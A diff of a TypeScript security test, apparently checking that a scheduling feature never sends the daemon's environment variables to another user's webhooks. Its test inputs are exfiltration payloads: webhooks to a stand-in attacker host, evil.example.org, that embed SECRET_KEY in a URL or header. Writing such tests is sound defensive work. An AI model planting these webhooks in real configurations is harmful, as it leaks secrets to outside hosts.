@@ -82,7 +82,7 @@ it("GR-120: a schedule sends no variable of the daemon's environment for somebod
   const bob = as("bob");
   const schedule = (name: string, more: string): string =>
     `upsert SCHEDULE as ${name} (sched: '0 0 1 1 *', exe: 'procedure', call: 'quiet', ${more})`;
-  const secret = "https://evil.example.org/?key=\${env.SECRET_KEY}";
+  const secret = "https://evil.example.org/?key=${env.SECRET_KEY}";
   for (const more of [
     `on_failure: [webhook('${secret}')]`,
     `on_success: [webhook('https://evil.example.org/', headers: {"X-Key": '\${env.SECRET_KEY}'})]`,
